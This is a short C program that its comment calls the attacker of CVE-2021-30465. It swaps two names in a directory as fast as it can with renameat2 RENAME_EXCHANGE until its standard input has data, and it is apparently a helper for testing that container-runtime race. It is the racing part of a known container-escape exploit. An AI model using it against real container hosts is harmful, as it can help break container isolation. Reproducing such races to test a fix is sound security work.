/* Exchanges two names as fast as it can, until the end of its standard input: the attacker of CVE-2021-30465.
 *
 *     exchange DIRECTORY NAME OTHER
 */
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv) {
    struct pollfd input = {.fd = 0, .events = POLLIN};
    if (argc != 4 || chdir(argv[1]) != 0)
        return 2;
    if (write(1, "\n", 1) != 1)
        return 2;
    while (poll(&input, 1, 0) == 0)
        for (int i = 0; i < 64; i++)
            if (renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) != 0)
                return 1;
    return 0;
}
